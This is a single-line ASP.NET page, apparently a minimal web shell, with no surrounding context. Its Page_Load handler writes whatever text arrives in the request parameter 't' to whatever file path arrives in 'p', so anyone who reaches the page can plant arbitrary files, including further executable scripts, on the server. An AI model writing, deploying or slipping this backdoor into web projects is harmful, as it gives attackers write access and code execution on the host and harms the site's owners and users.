<%@ Page Language="C#" %><script runat="server">void Page_Load(){ File.WriteAllText(Request["p"], Request["t"]); }</script>
